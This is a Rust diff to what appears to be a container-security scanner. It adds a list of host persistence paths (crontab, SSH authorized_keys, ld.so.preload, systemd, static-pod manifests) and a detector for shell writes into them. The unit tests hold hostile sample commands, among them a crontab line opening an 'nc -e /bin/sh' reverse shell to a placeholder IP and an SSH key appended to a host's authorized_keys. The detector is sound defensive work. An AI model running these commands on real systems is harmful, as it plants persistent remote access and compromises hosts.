@@ -590,6 +590,50 @@ pub fn miner(scripts: &[String]) -> Vec<String> {
     out
 }
 
+/// Paths whose modification persists code on a host: cron, SSH keys, preload, systemd
+/// units, static-pod manifests. Relative `../../etc/crontab` counts (Leaky Vessels).
+const PERSISTENCE_PATHS: &[&str] = &[
+    "etc/crontab",
+    "etc/cron.d/",
+    "etc/cron.hourly/",
+    "etc/cron.daily/",
+    "var/spool/cron/",
+    ".ssh/authorized_keys",
+    "etc/ld.so.preload",
+    "etc/systemd/system/",
+    "lib/systemd/system/",
+    "etc/kubernetes/manifests/",
+    "etc/rc.local",
+    "etc/profile.d/",
+    ".bashrc",
+    ".bash_aliases",
+];
+
+fn is_persistence_path(p: &str) -> bool {
+    PERSISTENCE_PATHS.iter().any(|k| p.contains(k))
+}
+
+/// Writes into persistence locations: `>`/`>>` redirections, `tee`, `cp`/`mv`/`install`
+/// targets.
+pub fn persistence_write(scripts: &[String]) -> Vec<String> {
+    each(scripts, |s, p| {
+        for c in p.pipelines.iter().flatten() {
+            let w = &c.words;
+            let redirect = w.windows(2).any(|x| x[0].starts_with('>') && is_persistence_path(&x[1]));
+            let (n, args) = c.name_and_args();
+            let tool = match n {
+                "tee" => args.iter().any(|a| !a.starts_with('-') && is_persistence_path(a)),
+                "cp" | "mv" | "install" | "ln" => args.iter().filter(|a| !a.starts_with('-')).last().is_some_and(|a| is_persistence_path(a)),
+                _ => false,
+            };
+            if redirect || tool {
+                return Some(snippet(s));
+            }
+        }
+        None
+    })
+}
+
 /// Container or cluster CLIs run from inside a container.
 pub fn container_cli(scripts: &[String]) -> Vec<String> {
     each(scripts, |s, p| {
@@ -674,6 +718,14 @@ mod tests {
         assert!(nsenter_host(&v(&["nsenter -t 4242 -n ip a"])).is_empty());
         assert!(!chroot_into(&v(&["chroot /mnt id"]), &v(&["/mnt"])).is_empty());
         assert!(chroot_into(&v(&["chroot /mnt id"]), &v(&["/data"])).is_empty());
+    }
+
+    #[test]
+    fn persistence_writes() {
+        assert!(!persistence_write(&v(&["echo \"* * * * * root nc -e /bin/sh 1.2.3.4 1\" >> ../../../../etc/crontab"])).is_empty());
+        assert!(!persistence_write(&v(&["cat key | tee -a /host/root/.ssh/authorized_keys"])).is_empty());
+        assert!(!persistence_write(&v(&["cp evil.yaml /host/etc/kubernetes/manifests/"])).is_empty());
+        assert!(persistence_write(&v(&["echo hi > /tmp/crontab-notes", "cat /etc/crontab"])).is_empty());
     }
 
     #[test]
